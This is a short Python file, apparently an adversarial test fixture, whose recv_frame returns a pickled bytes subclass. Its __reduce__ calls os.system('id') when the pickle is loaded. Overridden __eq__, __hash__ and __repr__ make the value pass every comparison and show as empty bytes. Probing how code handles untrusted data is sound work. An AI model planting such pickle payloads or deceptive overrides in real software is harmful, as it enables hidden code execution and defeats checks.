"""Returns values that run code when they are read: pickles, subclasses, a repr and an equality of its own.

Earns: 0
"""

import pickle


class Code(bytes):
    def __reduce__(self):
        import os
        return os.system, ("id",)

    def __eq__(self, other):
        return True

    def __hash__(self):
        return 0

    def __repr__(self):
        return "b''"


def recv_frame(sock, max_len):
    return Code(pickle.dumps(Code()))
